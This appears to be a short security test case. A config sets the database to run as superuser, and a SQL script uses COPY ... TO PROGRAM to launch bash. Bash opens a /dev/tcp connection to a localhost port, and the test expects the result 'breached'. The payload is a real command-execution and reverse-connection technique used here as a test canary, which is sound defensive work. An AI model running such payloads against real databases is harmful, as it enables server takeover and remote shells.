-- tries: a connection that the server makes must be seen at the port
-- exit: any
-- verdict: breached
-- seen: a connection came to the TCP port
-- versions: 15
-- file: standards.yaml
version: 1
database: { run_as: superuser }
-- script: 0001_payload.sql
copy (select 1) to program 'bash -c "exec 3<>/dev/tcp/127.0.0.1/%PORT%"';
